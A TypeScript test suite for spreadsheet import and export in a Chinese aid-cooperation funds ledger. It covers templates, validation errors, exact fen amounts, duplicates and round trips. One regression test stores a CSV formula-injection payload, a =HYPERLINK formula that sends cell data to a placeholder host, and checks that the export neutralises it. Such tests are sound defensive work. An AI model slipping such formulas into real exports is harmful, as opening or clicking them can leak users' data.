/**
 * Spreadsheets in and out of the ledger: the import template, all-or-nothing imports with every bad
 * cell named by row and column, amounts in 元 read exactly into fen, CSV and XLSX exports with
 * Chinese headers, and the round trip export → import.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { strFromU8, unzipSync } from "fflate";
import { XLSX } from "./support/sheetjs";
import { call, makeUser, startHarness, uid, type Harness, type TestUser } from "./support/harness";

const XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

let h: Harness;
const who: Record<string, TestUser> = {};
beforeAll(async () => {
  h = await startHarness();
  who.editor = await makeUser(h, "unit_editor", { unit: "dongguan" });
  who.zhongshanEditor = await makeUser(h, "unit_editor", { unit: "zhongshan" });
});
afterAll(() => h.close());

type Detail = { row?: number; column?: string; message: string };
type Item = Record<string, unknown> & { id: string };

/** A one-sheet XLSX file, built the way a clerk's spreadsheet program would save it. */
function xlsxFile(rows: unknown[][], name = "导入.xlsx"): File {
  const book = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet(rows), "Sheet1");
  const bytes = XLSX.write(book, { type: "array", bookType: "xlsx" }) as ArrayBuffer;
  return new File([bytes], name, { type: XLSX_TYPE });
}

/** Uploads a file as multipart/form-data field `file`. */
function upload(resource: string, file: File, token = who.editor!.token, unit = "dongguan") {
  const form = new FormData();
  form.append("file", file);
  return h.app.request(`/api/t/${unit}/${resource}/import`, { method: "POST", headers: { authorization: `Bearer ${token}` }, body: form });
}

/** Sends a raw body with its content type. */
function uploadRaw(resource: string, body: BodyInit, contentType: string, token = who.editor!.token) {
  return h.app.request(`/api/t/dongguan/${resource}/import`, { method: "POST", headers: { authorization: `Bearer ${token}`, "content-type": contentType }, body });
}

async function createProject(title: string): Promise<string> {
  const res = await call(h, "POST", "/api/t/dongguan/projects", { token: who.editor!.token, body: { title, category: "industry", areaCode: "440232" } });
  expect(res.status).toBe(201);
  return (await res.json()).id;
}

async function list(resource: string, query: string, token = who.editor!.token, unit = "dongguan"): Promise<{ items: Item[]; total: number }> {
  const res = await call(h, "GET", `/api/t/${unit}/${resource}?${query}`, { token });
  expect(res.status).toBe(200);
  return res.json();
}

async function importAuditCount(entity: string): Promise<number> {
  const { items } = await (await call(h, "GET", `/api/t/dongguan/audit?entity=${entity}&limit=200`, { token: who.editor!.token })).json();
  return items.filter((i: { action: string }) => i.action === "import").length;
}

const cellsOf = (details: Detail[]) => details.map((d) => `${d.row}:${d.column}`).sort();

/** The template's own headers (required ones marked *), as a clerk fills them in. */
const FUND_HEADERS = ["资金类型*", "资金来源*", "金额（元）*", "日期*", "受援地代码*", "项目编号", "用于基层/民生", "备注"];

describe("GET /api/t/:unit/funds/template.xlsx", () => {
  it("gives the Chinese headers (required ones ending in *) and an instructions sheet 填写说明 listing every field", async () => {
    const res = await call(h, "GET", "/api/t/dongguan/funds/template.xlsx", { token: who.editor!.token });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe(XLSX_TYPE);
    expect(res.headers.get("content-disposition")).toContain(`filename*=UTF-8''${encodeURIComponent("资金导入模板.xlsx")}`);
    const book = XLSX.read(new Uint8Array(await res.arrayBuffer()), { type: "array" });
    expect(book.SheetNames).toEqual(["资金", "填写说明", "选项"]);
    const [headers] = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets["资金"]!, { header: 1 });
    expect(headers).toEqual(["资金类型*", "资金来源*", "金额（元）*", "日期*", "受援地代码*", "项目编号", "所属帮扶工作", "用于基层/民生", "超支", "超支原因", "备注"]);
    const help = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets["填写说明"]!, { header: 1 });
    expect(help[0]).toEqual(["列名", "Column", "必填", "填写说明"]);
    expect(help.slice(1).map((r) => r[0])).toEqual(["资金类型", "资金来源", "金额（元）", "日期", "受援地代码", "项目编号", "所属帮扶工作", "用于基层/民生", "超支", "超支原因", "备注"]);
    const kindLine = help.find((r) => r[0] === "资金类型")!;
    expect(kindLine[2]).toBe("是");
    expect(kindLine[3]).toContain("安排（拨入）");
    expect(help.find((r) => r[0] === "金额（元）")![3]).toContain("元");
  });
});

describe("the template's dropdowns", () => {
  it("offers kinds by label, 是/否, the unit's areas and programs by name on every importable row, and what is picked imports", async () => {
    const res = await call(h, "GET", "/api/t/dongguan/funds/template.xlsx", { token: who.editor!.token });
    const bytes = new Uint8Array(await res.arrayBuffer());
    const parts = unzipSync(bytes);
    const text = (name: string) => strFromU8(parts[name]!);
    // The lists' sheet is hidden; the first sheet's columns point at it.
    expect(text("xl/workbook.xml")).toMatch(/<sheet name="选项" sheetId="3" state="hidden"/);
    const validations = [...text("xl/worksheets/sheet1.xml").matchAll(/<dataValidation [^>]*sqref="([A-Z]+)2:\1(\d+)"[^>]*><formula1>([^<]+)<\/formula1>/g)].map((m) => ({ column: m[1], toRow: Number(m[2]), source: m[3]!.replace(/&apos;|'/g, "'") }));
    const book = XLSX.read(bytes, { type: "array" });
    const [headers] = XLSX.utils.sheet_to_json<string[]>(book.Sheets["资金"]!, { header: 1 });
    const lists = XLSX.utils.sheet_to_json<Record<string, string>>(book.Sheets["选项"]!, { defval: null });
    const listOf = (header: string) => lists.map((r) => r[header]).filter((v): v is string => Boolean(v));
    const columnOf = (header: string) => String.fromCharCode(65 + headers!.findIndex((x) => x.replace("*", "") === header));
    for (const header of ["资金类型", "资金来源", "受援地代码", "所属帮扶工作", "用于基层/民生", "超支"]) {
      const v = validations.find((x) => x.column === columnOf(header));
      expect(v, header).toBeDefined();
      expect(v!.toRow).toBe(20_001);
      expect(v!.source).toMatch(/^'选项'!\$[A-Z]+\$2:\$[A-Z]+\$\d+$/);
      expect(listOf(header).length, header).toBeGreaterThan(0);
    }
    expect(listOf("资金类型")).toContain("安排（拨入）");
    expect(listOf("用于基层/民生")).toEqual(["是", "否"]);
    const areas = listOf("受援地代码");
    // 东莞 helps 韶关's counties (东莞–韶关) and 昭通's (东西部协作), by their full names.
    expect(areas).toContain("广东省韶关市新丰县");
    expect(areas).toContain("云南省昭通市镇雄县");
    expect(listOf("所属帮扶工作").length).toBeGreaterThan(0);

    // A row filled only from the dropdowns imports.
    const tag = uid("imp-picked");
    const program = listOf("所属帮扶工作")[0]!;
    const picked = await upload("funds", xlsxFile([["资金类型*", "资金来源*", "金额（元）*", "日期*", "受援地代码*", "所属帮扶工作", "用于基层/民生", "备注"], ["安排（拨入）", "市级", "10", "2026-03-01", areas[0]!, program, "是", tag]]));
    expect(picked.status).toBe(201);
    const [stored] = (await list("funds", `q=${tag}`)).items;
    expect(stored).toMatchObject({ kind: "allocation", grassroots: true, amountFen: 1000 });
    expect(String(stored!.areaCode)).toMatch(/^44\d{4}$/);
  });
});

describe("POST /api/t/:unit/funds/import (XLSX)", () => {
  /**
   * Six rows under the header. Project P gets 1,000 元 allocated in row 2 and 600 元 disbursed in row 4,
   * so 400 元 are left for row 7: 500 is too much, 400 is exactly enough.
   */
  function fundRows(project: string, tag: string, bad: boolean): unknown[][] {
    return [
      FUND_HEADERS,
      ["安排（拨入）", "市级", "1,000.00", "2026-03-01", "440232", project, "是", tag],
      ["社会捐赠", bad ? "天上" : "社会", bad ? "12.345" : "1,234.56", "2026-03-02", "440232", null, "否", tag],
      ["拨付（支出）", "市级", 600, "2026/3/5", "440232", project, "是", tag],
      ["企业投资", "企业", 0.1, bad ? "2026-13-01" : "2026-03-01", bad ? "999999" : "440233", null, null, tag],
      ["social_donation", "society", "¥88.8", 46086, "440232", null, "否", tag],
      ["拨付（支出）", "市级", bad ? "500" : "400", "2026-03-06", "440232", project, "是", tag],
    ];
  }

  it("refuses a file with bad rows, naming every bad cell by row and column, and writes nothing", async () => {
    const tag = uid("imp-bad");
    const project = await createProject(tag);
    const totalBefore = (await list("funds", "limit=1")).total;
    const auditBefore = await importAuditCount("fund");

    const res = await upload("funds", xlsxFile(fundRows(project, tag, true)));
    expect(res.status).toBe(400);
    const { error } = await res.json();
    expect(error.code).toBe("VALIDATION_FAILED");
    expect(cellsOf(error.details)).toEqual(["3:资金来源", "3:金额（元）", "5:受援地代码", "5:日期", "7:金额（元）"].sort());
    for (const d of error.details as Detail[]) expect(d.message.length, `${d.row}:${d.column}`).toBeGreaterThan(0);
    // Row 7: 1,000 allocated − 600 disbursed (rows 2 and 4 of the same file) = 400 元 left < 500 元.
    const overrun = (error.details as Detail[]).find((d) => d.row === 7)!;
    expect(overrun.message).toContain("400.00");
    expect((error.details as Detail[]).find((d) => d.row === 5 && d.column === "受援地代码")!.message).toContain("999999");

    expect((await list("funds", "limit=1")).total).toBe(totalBefore);
    expect((await list("funds", `q=${tag}`)).total).toBe(0);
    expect(await importAuditCount("fund")).toBe(auditBefore);
  });

  it("writes the corrected file: 201 {created: 6}, amounts exact in fen, one audit row per record", async () => {
    const tag = uid("imp-ok");
    const project = await createProject(tag);
    const res = await upload("funds", xlsxFile(fundRows(project, tag, false)));
    expect(res.status).toBe(201);
    expect(await res.json()).toEqual({ created: 6, skipped: 0 });

    const { items } = await list("funds", `q=${tag}&sort=createdAt&limit=10`);
    expect(items).toHaveLength(6);
    const byAmount = new Map(items.map((i) => [i.amountFen, i]));
    // "1,000.00" → 100000; "1,234.56" → 123456; 600 → 60000; 0.1 → 10; "¥88.8" → 8880; "400" → 40000.
    expect([...byAmount.keys()].sort((a, b) => Number(a) - Number(b))).toEqual([10, 8880, 40000, 60000, 100000, 123456]);
    expect(byAmount.get(100000)).toMatchObject({ kind: "allocation", source: "city", projectId: project, grassroots: true, date: "2026-03-01" });
    expect(byAmount.get(123456)).toMatchObject({ kind: "social_donation", source: "society", grassroots: false, projectId: null });
    expect(byAmount.get(60000)).toMatchObject({ kind: "disbursement", date: "2026-03-05" }); // "2026/3/5"
    expect(byAmount.get(10)).toMatchObject({ kind: "enterprise_investment", areaCode: "440233", grassroots: false }); // blank 是/否 → 否
    expect(byAmount.get(8880)).toMatchObject({ kind: "social_donation", source: "society", date: "2026-03-05" }); // Excel serial 46086
    expect(byAmount.get(40000)).toMatchObject({ kind: "disbursement", overrun: false });

    for (const item of items) {
      const audit = await (await call(h, "GET", `/api/t/dongguan/audit?entity=fund&entityId=${item.id}`, { token: who.editor!.token })).json();
      expect(audit.items.map((a: { action: string }) => a.action), item.id).toEqual(["import"]);
      expect(audit.items[0].after).toMatchObject({ id: item.id, amountFen: item.amountFen });
    }
  });

  // Regression (fixed): readSheet() reads with `blankrows: false`, so a blank row is dropped before parseImport()
  // numbers the rows as index + 2, and every error below a blank row names the row above the bad one.
  // Fix: read with `blankrows: true` (and the sheet range's first row), number rows by their position,
  // then skip blank rows in parseImport() (also when deciding the file has no data rows).
  it("reports the spreadsheet's own row number when a blank row sits between data rows", async () => {
    const tag = uid("imp-blank");
    const res = await upload("funds", xlsxFile([FUND_HEADERS, ["安排（拨入）", "市级", "10", "2026-03-01", "440232", null, null, tag], [], ["安排（拨入）", "天上", "10", "2026-03-01", "440232", null, null, tag]]));
    expect(res.status).toBe(400);
    // The bad source is on spreadsheet row 4 (row 3 is blank).
    expect(cellsOf((await res.json()).error.details)).toEqual(["4:资金来源"]);
  });
});

describe("POST /api/t/:unit/funds/import (CSV)", () => {
  it("reads a UTF-8 CSV with a BOM, Chinese enum labels, 是/否 and dates like 2026/3/5", async () => {
    const tag = uid("csv");
    const csv = [
      "\uFEFF资金类型,资金来源,金额（元）,日期,受援地代码,用于基层/民生,超支,备注",
      `安排（拨入）,省级,"1,234.56",2026/3/5,440232,是,否,${tag}`,
      `社会捐赠,社会,0.1,2026-03-06,440233,否,,${tag}`,
      `企业投资,企业,99,2026年3月7日,440232,,,${tag}`,
    ].join("\r\n");
    const res = await uploadRaw("funds", csv, "text/csv; charset=utf-8");
    expect(res.status).toBe(201);
    expect(await res.json()).toEqual({ created: 3, skipped: 0 });
    const { items } = await list("funds", `q=${tag}&sort=date`);
    expect(items.map((i) => [i.kind, i.source, i.amountFen, i.date, i.areaCode, i.grassroots, i.overrun])).toEqual([
      ["allocation", "province", 123456, "2026-03-05", "440232", true, false],
      ["social_donation", "society", 10, "2026-03-06", "440233", false, false],
      ["enterprise_investment", "enterprise", 9900, "2026-03-07", "440232", false, false],
    ]);
  });

  it("accepts the raw XLSX bytes with the XLSX content type", async () => {
    const tag = uid("raw-xlsx");
    const file = xlsxFile([FUND_HEADERS, ["安排（拨入）", "市级", 12.34, 46086, "440232", null, "是", tag]]);
    const res = await uploadRaw("funds", await file.arrayBuffer(), XLSX_TYPE);
    expect(res.status).toBe(201);
    const { items } = await list("funds", `q=${tag}`);
    expect(items.map((i) => [i.amountFen, i.date])).toEqual([[1234, "2026-03-05"]]);
  });
});

describe("POST /api/t/:unit/funds/import: files that cannot be imported", () => {
  const good = ["安排（拨入）", "市级", "10", "2026-03-01", "440232", null, null, "x"];

  it("names an unknown column at row 1", async () => {
    const res = await upload("funds", xlsxFile([[...FUND_HEADERS, "颜色"], [...good, "红"]]));
    expect(res.status).toBe(400);
    const { error } = await res.json();
    expect(error.code).toBe("VALIDATION_FAILED");
    expect(error.details).toEqual([expect.objectContaining({ row: 1, column: "颜色" })]);
  });

  it("names a missing required column at row 1", async () => {
    const res = await upload("funds", xlsxFile([FUND_HEADERS.filter((c) => c !== "日期*"), good.filter((_, i) => i !== 3)]));
    expect(res.status).toBe(400);
    expect((await res.json()).error.details).toEqual([expect.objectContaining({ row: 1, column: "日期" })]);
  });

  it("refuses a file with headers and no rows", async () => {
    const res = await upload("funds", xlsxFile([FUND_HEADERS]));
    expect(res.status).toBe(400);
    expect((await res.json()).error.code).toBe("BAD_REQUEST");
  });

  it.each([
    ["garbage bytes", new Uint8Array([0, 1, 2, 3, 255, 254, 253, 10, 13, 200, 100])],
    ["a broken ZIP (starts like an XLSX)", new Uint8Array([0x50, 0x4b, 3, 4, 9, 9, 9, 9, 9, 9])],
    ["an empty file", new Uint8Array()],
    ["a PDF", new TextEncoder().encode("%PDF-1.4\n%âãÏÓ\n1 0 obj<<>>endobj\n")],
  ])("answers 400, never 500, to %s", async (_name, bytes) => {
    const viaForm = await upload("funds", new File([bytes], "资金.xlsx", { type: XLSX_TYPE }));
    expect(viaForm.status).toBe(400);
    const viaBody = await uploadRaw("funds", bytes, XLSX_TYPE);
    expect(viaBody.status).toBe(400);
    expect(Object.keys(await viaBody.json())).toEqual(["error"]);
  });

  it("answers 400 to a form without a file field", async () => {
    const form = new FormData();
    form.append("file", "not a file");
    const res = await h.app.request("/api/t/dongguan/funds/import", { method: "POST", headers: { authorization: `Bearer ${who.editor!.token}` }, body: form });
    expect(res.status).toBe(400);
  });
});

describe("GET /api/t/:unit/funds/export", () => {
  it("exports the filtered list as CSV (BOM, Chinese headers, yuan) and as XLSX with the same rows", async () => {
    const tag = uid("exp");
    const project = await createProject(tag);
    for (const body of [
      { kind: "allocation", source: "city", amountFen: 123456, date: "2026-03-01" },
      { kind: "allocation", source: "province", amountFen: 10, date: "2026-03-02" },
      { kind: "disbursement", source: "city", amountFen: 5000, date: "2026-03-03" },
    ]) {
      const res = await call(h, "POST", "/api/t/dongguan/funds", { token: who.editor!.token, body: { ...body, areaCode: "440232", projectId: project } });
      expect(res.status).toBe(201);
    }

    const csvRes = await call(h, "GET", `/api/t/dongguan/funds/export?format=csv&kind=allocation&projectId=${project}&sort=date`, { token: who.editor!.token });
    expect(csvRes.status).toBe(200);
    expect(csvRes.headers.get("content-type")).toContain("text/csv");
    const disposition = csvRes.headers.get("content-disposition")!;
    const encoded = /filename\*=UTF-8''(\S+)$/.exec(disposition)?.[1];
    expect(decodeURIComponent(encoded!)).toMatch(/^东莞市-资金-\d{4}-\d{2}-\d{2}\.csv$/);
    const bytes = new Uint8Array(await csvRes.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes).replace(/^\uFEFF/, "");
    const csvRows = XLSX.utils.sheet_to_json<unknown[]>(XLSX.read(text, { type: "string", raw: true }).Sheets.Sheet1!, { header: 1, defval: null });
    const header = csvRows[0] as string[];
    // Each amount in 元 with its 万元 beside it; the area by name, under 受援地 (src/sheets/columns.ts).
    expect(header.slice(0, 7)).toEqual(["编号", "资金类型", "资金来源", "金额（元）", "金额（万元）", "日期", "受援地"]);
    expect(header.slice(-4)).toEqual(["版本", "创建时间", "更新时间", "作废原因"]);
    const column = (name: string) => header.indexOf(name);
    expect(csvRows.slice(1).map((r) => [r[column("资金类型")], r[column("金额（元）")], r[column("金额（万元）")], r[column("项目编号")], r[column("项目名称")], r[column("受援地")]])).toEqual([
      ["安排（拨入）", "1234.56", "0.1235", project, tag, "广东省韶关市乳源瑶族自治县"], // 123456 fen = 1,234.56 元 = 0.1235 万元
      ["安排（拨入）", "0.1", "0", project, tag, "广东省韶关市乳源瑶族自治县"], // 10 fen = 0.1 元 = 0.00001 万元, 0.0000 to four places
    ]);

    const xlsxRes = await call(h, "GET", `/api/t/dongguan/funds/export?format=xlsx&kind=allocation&projectId=${project}&sort=date`, { token: who.editor!.token });
    expect(xlsxRes.status).toBe(200);
    expect(xlsxRes.headers.get("content-type")).toBe(XLSX_TYPE);
    expect(xlsxRes.headers.get("content-disposition")).toMatch(/filename\*=UTF-8''.+\.xlsx$/);
    const book = XLSX.read(new Uint8Array(await xlsxRes.arrayBuffer()), { type: "array" });
    const xlsxRows = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets[book.SheetNames[0]!]!, { header: 1, defval: null, raw: false });
    expect(xlsxRows).toEqual(csvRows);
  });
});

describe("GET /api/t/:unit/activities/export?format=csv: cells Excel would run", () => {
  // Regression (CSV/formula injection, fixed): recordsToCsv() writes text as typed, so a title such as
  // =HYPERLINK(...) becomes a live formula when a clerk or coordinator opens the CSV in Excel/WPS.
  // Fix: in recordsToCsv(), prefix text cells that begin with = + - @ TAB or CR with an apostrophe
  // (the XLSX export is safe: aoa_to_sheet writes such text as a string cell), and strip one leading
  // apostrophe in parseCell() for text so that a CSV round trip gives back the original text.
  it("neutralises a text cell that begins with =", async () => {
    const tag = uid("inj");
    const title = `=HYPERLINK("http://example.invalid/?x="&A1,"${tag}")`;
    expect((await call(h, "POST", "/api/t/dongguan/activities", { token: who.editor!.token, body: { kind: "other", date: "2026-04-01", title } })).status).toBe(201);
    const text = await (await call(h, "GET", `/api/t/dongguan/activities/export?format=csv&q=${tag}`, { token: who.editor!.token })).text();
    const [header, row] = XLSX.utils.sheet_to_json<unknown[]>(XLSX.read(text.replace(/^\uFEFF/, ""), { type: "string", raw: true }).Sheets.Sheet1!, { header: 1, defval: null });
    const cell = String(row![(header as string[]).indexOf("事项")]);
    expect(cell.startsWith("=")).toBe(false);
  });
});

describe("round trip: export → import", () => {
  it("imports an activities export into another unit: the bookkeeping columns (编号/版本/更新时间/作废原因) are ignored", async () => {
    const tag = uid("trip");
    const examples = [
      { kind: "visit", date: "2026-04-01", title: `${tag} 市领导赴昭通调研`, areaCode: "530602", direction: "to_recipient", leaderLevel: "main", people: 12 },
      { kind: "purchase", date: "2026-04-02", title: `${tag} 采购昭通苹果`, areaCode: "530602", amountFen: 123456, note: "消费帮扶" },
      { kind: "agreement", date: "2026-04-03", title: `${tag} 签署 2026 年协作协议`, agreementYear: 2026 },
    ];
    for (const body of examples) {
      const res = await call(h, "POST", "/api/t/dongguan/activities", { token: who.editor!.token, body: { ...body, program: "gd-east-west-2016" } });
      expect(res.status).toBe(201);
    }
    const exported = await call(h, "GET", `/api/t/dongguan/activities/export?format=xlsx&q=${tag}&sort=date`, { token: who.editor!.token });
    expect(exported.status).toBe(200);
    const file = new File([await exported.arrayBuffer()], "东莞市-工作台账.xlsx", { type: XLSX_TYPE });

    // 中山 takes part in gd-east-west-2016 (the 昭通 group), so the program column is valid there too.
    const res = await upload("activities", file, who.zhongshanEditor!.token, "zhongshan");
    expect(res.status).toBe(201);
    expect(await res.json()).toEqual({ created: 3, skipped: 0 });
    const fields = ["kind", "date", "title", "areaCode", "program", "direction", "leaderLevel", "people", "amountFen", "agreementYear", "note"];
    const pick = (i: Item) => Object.fromEntries(fields.map((k) => [k, i[k]]));
    const original = (await list("activities", `q=${tag}&sort=date`)).items;
    const copy = (await list("activities", `q=${tag}&sort=date`, who.zhongshanEditor!.token, "zhongshan")).items;
    expect(copy.map(pick)).toEqual(original.map(pick));
    expect(copy.map((i) => i.id)).not.toEqual(original.map((i) => i.id));
  });
});

describe("round trip of voided records", () => {
  // Regression (fixed): an export with includeVoided=true carries voided rows (作废原因 filled); the importer
  // ignores 作废原因 like the other bookkeeping columns, so re-importing the file silently brings a
  // voided record back as a live one (e.g. a duplicate entry the clerk had voided counts again).
  // Fix: in parseImport(), keep the 作废原因 column's position and refuse (or skip and report) a row
  // whose 作废原因 is filled: { row, column: "作废原因", message: "已作废的记录不能导入" }.
  it("does not bring a voided record back to life", async () => {
    const tag = uid("voided");
    const created = await (await call(h, "POST", "/api/t/dongguan/activities", { token: who.editor!.token, body: { kind: "other", date: "2026-04-01", title: tag } })).json();
    const voided = await call(h, "POST", `/api/t/dongguan/activities/${created.id}/void`, { token: who.editor!.token, body: { reason: "重复录入" }, headers: { "if-match": '"1"' } });
    expect(voided.status).toBe(200);
    const csv = await (await call(h, "GET", `/api/t/dongguan/activities/export?format=csv&q=${tag}&includeVoided=true`, { token: who.editor!.token })).text();
    expect(csv).toContain("重复录入");
    const res = await uploadRaw("activities", csv, "text/csv");
    expect(res.status).toBeLessThan(500);
    expect((await list("activities", `q=${tag}`)).total).toBe(0);
  });
});

describe("the same file imported twice", () => {
  it("does not double the funds: the second import is refused with the repeated rows, then skips or keeps them as asked", async () => {
    const tag = uid("twice");
    const csv = ["资金类型,资金来源,金额（元）,日期,受援地代码,备注", `社会捐赠,社会,1000.00,2024-05-01,440232,${tag}`, `社会捐赠,社会,2000.00,2024-05-02,440232,${tag}`].join("\n");
    expect((await uploadRaw("funds", csv, "text/csv")).status).toBe(201);
    const again = await uploadRaw("funds", csv, "text/csv");
    expect(again.status).toBe(409);
    const { error } = await again.json();
    expect(error.message).toContain("2 行与台账中已有记录完全相同");
    expect(error.details.map((d: { row: number }) => d.row)).toEqual([2, 3]);
    expect((await list("funds", `q=${tag}`)).total).toBe(2);
    // A third row that is new: skip writes only it; keep writes everything again.
    const more = `${csv}\n社会捐赠,社会,3000.00,2024-05-03,440232,${tag}`;
    const skipped = await h.app.request(`/api/t/dongguan/funds/import?duplicates=skip`, { method: "POST", headers: { authorization: `Bearer ${who.editor!.token}`, "content-type": "text/csv" }, body: more });
    expect(await skipped.json()).toEqual({ created: 1, skipped: 2 });
    expect((await list("funds", `q=${tag}`)).total).toBe(3);
    const kept = await h.app.request(`/api/t/dongguan/funds/import?duplicates=keep`, { method: "POST", headers: { authorization: `Bearer ${who.editor!.token}`, "content-type": "text/csv" }, body: csv });
    expect(await kept.json()).toEqual({ created: 2, skipped: 0 });
    expect((await list("funds", `q=${tag}`)).total).toBe(5);
  });
});

describe("names instead of codes", () => {
  it("takes a recipient area by its name or full name and a program by its title", async () => {
    const tag = uid("names");
    const csv = [
      "事项类型,日期,事项,受援地代码,所属帮扶工作,备注",
      `联席会议,2024-03-01,按名称,乐昌市,东莞韶关继续推进全面帮扶共建三年行动方案（2022—2024年）,${tag}`,
      `联席会议,2024-03-02,按全称,广东省韶关市乐昌市,dongguan-shaoguan,${tag}`,
      `联席会议,2024-03-03,按地市与县名,韶关市乳源瑶族自治县,dongguan-shaoguan,${tag}`,
    ].join("\n");
    const res = await uploadRaw("activities", csv, "text/csv");
    expect(res.status, await res.clone().text()).toBe(201);
    const items = (await list("activities", `q=${tag}&sort=date`)).items as unknown as { areaCode: string; program: string }[];
    expect(items.map((a) => [a.areaCode, a.program])).toEqual([
      ["440281", "dongguan-shaoguan"],
      ["440281", "dongguan-shaoguan"],
      ["440232", "dongguan-shaoguan"],
    ]);
  });

  it("names the row and the column of a name it cannot place, and writes nothing", async () => {
    const tag = uid("badname");
    const csv = ["事项类型,日期,事项,受援地代码,所属帮扶工作,备注", `联席会议,2024-03-01,未知地区,火星市,dongguan-shaoguan,${tag}`, `联席会议,2024-03-02,未知工作,乐昌市,不存在的帮扶工作,${tag}`].join("\n");
    const res = await uploadRaw("activities", csv, "text/csv");
    expect(res.status).toBe(400);
    const details = (await res.json()).error.details as { row: number; column: string; message: string }[];
    expect(details.map((d) => [d.row, d.column])).toEqual([
      [2, "受援地代码"],
      [3, "所属帮扶工作"],
    ]);
    expect(details[0]!.message).toContain("找不到地区“火星市”");
    expect((await list("activities", `q=${tag}`)).total).toBe(0);
  });
});

describe("a large import", () => {
  it("takes and gives a money target in 元 like every amount, and a count as a whole number", async () => {
    const year = 2037; // no other test sets targets for it
    const rows = [
      ["年度", "帮扶工作", "指标", "目标值", "来源", "备注"],
      [year, "dongguan-shaoguan", "每镇街民生帮扶资金", "2,000,000.50", "本单位调整", "元的目标"],
      [year, "dongguan-shaoguan", "联席会议次数", 3, "本单位调整", "次数的目标"],
    ];
    const wrong = await upload("targets", xlsxFile([rows[0]!, [year, "dongguan-shaoguan", "联席会议次数", "2.5", "本单位调整", ""]]));
    expect(wrong.status).toBe(400);
    expect((await wrong.json()).error.details).toEqual([expect.objectContaining({ row: 2, column: "目标值" })]);
    const res = await upload("targets", xlsxFile(rows));
    expect(res.status).toBe(201);
    const list = (await (await call(h, "GET", `/api/t/dongguan/targets?year=${year}&sort=indicator`, { token: who.editor!.token })).json()).items as Item[];
    expect(Object.fromEntries(list.map((t) => [t.indicator, t.target]))).toEqual({ "funds.town_livelihood": 200_000_050, "meetings.joint": 3 });

    const exported = await h.app.request(`/api/t/dongguan/targets/export?format=csv&year=${year}`, { headers: { authorization: `Bearer ${who.editor!.token}` } });
    const text = (await exported.text()).replace(/^\uFEFF/, "");
    const [header, ...lines] = text.trim().split(/\r?\n/).map((l) => l.split(","));
    const at = header!.indexOf("目标值");
    const byIndicator = Object.fromEntries(lines.map((l) => [l[header!.indexOf("指标")], l[at]]));
    expect(byIndicator).toEqual({ 每镇街民生帮扶资金: "2000000.5", 联席会议次数: "3" });
  });

  it("writes 5,000 activities rows in one go", async () => {
    const tag = uid("bulk");
    const rows: unknown[][] = [["事项类型", "日期", "事项", "受援地代码", "所属帮扶工作", "人数/人次", "学时", "备注"]];
    for (let i = 0; i < 5000; i++) rows.push(["培训", `2026-${String((i % 12) + 1).padStart(2, "0")}-15`, `乡村振兴培训班第 ${i + 1} 期`, "440232", "dongguan-shaoguan", 30 + (i % 20), 16, tag]);
    const file = xlsxFile(rows, "工作台账.xlsx");
    const started = performance.now();
    const res = await upload("activities", file);
    const seconds = (performance.now() - started) / 1000;
    console.log(`5,000-row activities XLSX import: ${seconds.toFixed(2)} s (${file.size} bytes)`);
    expect(res.status).toBe(201);
    expect(await res.json()).toEqual({ created: 5000, skipped: 0 });
    expect(seconds).toBeLessThan(20);
    expect((await list("activities", `q=${tag}&limit=1`)).total).toBe(5000);
  });
});
